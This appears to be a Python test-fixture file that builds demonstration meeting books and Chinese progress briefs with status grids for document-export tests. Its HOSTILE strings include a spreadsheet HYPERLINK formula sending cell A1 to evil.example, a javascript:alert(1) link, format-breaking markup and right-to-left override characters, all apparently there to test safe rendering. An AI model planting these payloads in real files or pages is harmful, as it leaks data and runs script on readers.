"""Books made by hand for the tests of documents: no snapshot, so each says what a test is about."""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence

from renovation.language import language
from renovation.meeting.book import Book, Brief, Grid, Meeting, Section
from renovation.report import Stamp

# Names that are formulas, markup of every format, links, right-to-left marks, half characters and
# marks that no XML may hold, or that have no end.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看")'
MARKUP = '<b>粗</b>&lt;]]></w:t> *x* _y_ `z` $x^2$ #link("http://evil.example")[点] @a <b> \\ "'
LINK = "[点](http://evil.example) javascript:alert(1)"
BACKWARDS = "楼\u202e%1.99\u202c\u200f\u2067 עברית"
UNSEEN = "甲\x00\x08\x1b\ufffe\ud800\u200b乙\r\n丙"
LONG = "长" * 500
LONG_WORD = "Longword" * 63
HOSTILE = (FORMULA, MARKUP, LINK, BACKWARDS, UNSEEN, LONG, LONG_WORD)

_LIGHTS = ("on_schedule", "slightly_behind", "behind", "not_reported")
_CELLS = {
    "zh": ("● 77.1% +0.7", "▲ 69.2% −8.1", "■ 62.5% −14.6", "○ 未报"),
    "en": ("● 77.1% +0.7", "▲ 69.2% −8.1", "■ 62.5% −14.6", "○ Not reported"),
}


def matrix(places: Sequence[str], metrics: Sequence[str], lang: str = "zh", note: str = "") -> Grid:
    """A table of lights: a row for each place and one for all, a column for each metric."""
    cells = _CELLS[lang]
    rows, lights = [], []
    for number, place in enumerate([*places, "合计" if lang == "zh" else "All"]):
        kinds = [(number + column) % 4 for column in range(len(metrics))]
        rows.append((place, *(cells[kind] for kind in kinds)))
        lights.append(("", *(_LIGHTS[kind] for kind in kinds)))
    return Grid(
        title="分项进度表",
        heads=("街道", *metrics),
        aligns=("left", *["right" for _ in metrics]),
        rows=tuple(rows),
        lights=tuple(lights),
        totals=(*[False for _ in places], True),
        note=note,
    )


def brief(**fields: object) -> Brief:
    """A short brief of two sections, with a table in the second."""
    usual: dict[str, object] = {
        "head": "“某某工程”工作简报",
        "office": "某某办公室",
        "number": "第7期",
        "date": "2019年8月2日",
        "title": "某某工程进展情况",
        "sections": (
            Section("一、总体进展", ("完成72.1%，落后序时进度5.0个百分点。", "本月新增263处。")),
            Section(
                "二、各街道进展",
                ("24项街道任务，18项达序时。",),
                matrix(("东街", "西街"), ("管线", "道路"), note="● 达序时；▲ 略滞后"),
            ),
        ),
        "notes": ("来源：某某台账 · 第3版", "演示台账：非实际数据。"),
    }
    return Brief(**usual | fields)  # type: ignore[arg-type]


def book(said: Brief | None = None, lang: str = "zh", **fields: object) -> Book:
    """A book without slides and tables around a brief."""
    usual: dict[str, object] = {
        "meeting": Meeting("2019-08-regular", "八月调度会", "2019-08-02", 3, lang=lang),
        "slides": (),
        "tables": {},
        "stamp": Stamp(dt.date(2019, 7, 30), 3, is_demonstration=True),
        "title": "八月调度会",
        "subtitle": "2019-08-02",
        "foot": "来源：某某台账 · 数据截至 2019-07-30 · 第3版 · 演示数据",
        "brief": said or brief(),
        "t": language(lang),
        "demonstration": "演示数据" if lang == "zh" else "Demonstration data",
        "file_stem": "八月调度会_第3版",
    }
    return Book(**usual | fields)  # type: ignore[arg-type]
